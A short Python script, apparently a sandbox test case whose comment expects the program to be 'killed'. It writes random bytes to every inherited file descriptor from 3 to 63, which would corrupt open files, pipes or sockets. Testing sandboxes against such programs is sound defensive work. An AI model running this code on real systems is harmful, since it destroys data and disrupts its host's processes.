# says: killed
import os
for descriptor in range(3, 64):
    try:
        os.write(descriptor, os.urandom(5000))
    except OSError:
        pass
